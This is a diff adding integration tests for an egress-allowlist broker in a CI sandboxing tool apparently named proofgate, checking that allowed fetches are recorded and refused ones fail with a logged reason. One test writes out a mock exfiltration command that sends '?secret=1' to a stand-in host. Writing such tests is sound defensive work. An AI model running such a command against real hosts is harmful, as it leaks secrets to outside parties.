@@ -15,6 +15,7 @@ import json
 import secrets
 from collections.abc import Iterator
 from dataclasses import dataclass
+from pathlib import Path
 
 import docker
 import pytest
@@ -354,3 +355,61 @@ def test_empty_allowlist_means_no_network(
     assert result.phases[0].ok, result.phases[0].commands[0].log_tail
     assert result.egress is None
     assert _leftovers(docker_client) == ([], [])
+
+
+# --- end to end: the receipt and the Markdown ---------------------------------------------
+
+
+def test_prove_records_egress_in_receipt_and_markdown(
+    tmp_path: Path, unsafe_env: Registry, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tests.integration.test_prove import _config, _predicate, _prove, _repo
+
+    fetch = (
+        f"python3 -c \"import urllib.request; urllib.request.urlopen('http://{REGISTRY}:8000/hello.txt')"
+        ".read(); print('fetched')\""
+    )
+    checks = (
+        "  - name: deps\n    network: setup\n"
+        f"    egress: ['{REGISTRY}:8000']\n"
+        f"    setup: {json.dumps(fetch)}\n"
+        "    test: 'true'\n"
+    )
+    _, path = _repo(tmp_path, {b".github/proofgate.yml": _config(checks)}, {b"a": b"1"})
+    assert _prove(path, tmp_path / "out") == 0
+    assert "proofgate: UNSAFE: the egress broker may reach" in capsys.readouterr().err
+    predicate = _predicate(tmp_path / "out")
+    kinds = [e["kind"] for e in predicate["journal"]["events"]]  # type: ignore[index]
+    assert "egress-unsafe-overrides" in kinds  # the receipt says the broker was loosened
+    (check,) = predicate["checks"]  # type: ignore[misc]
+    (attempt,) = check["egress"]
+    assert attempt["host"] == REGISTRY
+    assert attempt["allowed"] is True
+    assert check["egress_summary"]["attempts"] == 1
+    markdown = (tmp_path / "out" / "receipt.md").read_text()
+    assert "## Egress" in markdown
+    assert f"`{REGISTRY}:8000`" in markdown
+
+
+def test_refused_connection_fails_the_check_with_the_reason_in_its_log(
+    tmp_path: Path, unsafe_env: Registry
+) -> None:
+    from tests.integration.test_prove import _config, _predicate, _prove, _repo
+
+    fetch = (
+        'python3 -c "import urllib.request; '
+        "urllib.request.urlopen('http://exfil.proofgate.test:8000/?secret=1')\""
+    )
+    checks = (
+        "  - name: deps\n    network: setup\n"
+        f"    egress: ['{REGISTRY}:8000']\n"
+        f"    setup: {json.dumps(fetch)}\n"
+        "    test: 'true'\n"
+    )
+    _, path = _repo(tmp_path, {b".github/proofgate.yml": _config(checks)}, {b"a": b"1"})
+    assert _prove(path, tmp_path / "out") == 10
+    (check,) = _predicate(tmp_path / "out")["checks"]  # type: ignore[misc]
+    (attempt,) = check["egress"]
+    assert attempt["reason"] == "not-allowed"
+    tail = check["phases"][0]["commands"][0]["log_tail"]
+    assert "proofgate egress refused exfil.proofgate.test:8000 (not-allowed)" in tail
